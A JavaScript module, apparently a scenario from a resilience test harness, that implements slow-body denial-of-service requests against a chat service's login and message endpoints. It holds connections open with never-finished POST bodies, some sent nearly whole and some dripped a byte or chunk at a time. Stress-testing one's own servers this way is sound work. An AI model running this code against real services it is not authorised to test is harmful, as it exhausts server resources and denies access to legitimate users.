import { connection, headOf } from '../client.mjs';

const HELD_MS = 60_000;
const A_BYTE_EVERY_MS = 250;
const MIB = 1_048_576;
const filling = Buffer.alloc(MIB, 0x20);

/** Bodies that never end, with a token and without: all but the last byte at once, a byte at a time, and chunks of a byte. */
export function bodies({ attackers, addresses, port, signal }) {
  const WAYS = [almostAll(MIB), almostAll(MIB / 2), almostAll(MIB / 32), byByte, byChunk];
  return {
    name: 'unfinished bodies',
    perSecond: 6,
    burst: 6,
    underWayMax: 450,
    act(n) {
      const account = attackers.pages[Math.floor(n / 2) % attackers.pages.length];
      const hasToken = n % 2 === 0;
      const address = hasToken ? account.address : addresses[Math.floor(n / 2) % addresses.length];
      const path = hasToken ? `/chat/conversations/${account.own}/messages` : '/auth/login';
      const headers = hasToken ? { authorization: `Bearer ${account.token}` } : {};
      const way = WAYS[Math.floor(n / 2) % WAYS.length];
      const act = way(path, { ...headers, 'content-type': 'application/json' });
      return connection({ port, address, holdMs: HELD_MS, signal }, act);
    },
  };
}

const almostAll = (bytes) => (path, headers) => (socket) => {
  socket.write(headOf('POST', path, { ...headers, 'content-length': bytes }));
  socket.write(filling.subarray(0, bytes - 1));
};

const byByte = (path, headers) => (socket, isOver) => {
  socket.write(headOf('POST', path, { ...headers, 'content-length': MIB / 64 }));
  drip(socket, isOver, ' ');
};

const byChunk = (path, headers) => (socket, isOver) => {
  socket.write(headOf('POST', path, { ...headers, 'transfer-encoding': 'chunked' }));
  drip(socket, isOver, '1\r\n \r\n');
};

function drip(socket, isOver, piece) {
  const timer = setInterval(() => {
    if (isOver()) clearInterval(timer);
    else socket.write(piece);
  }, A_BYTE_EVERY_MS);
}
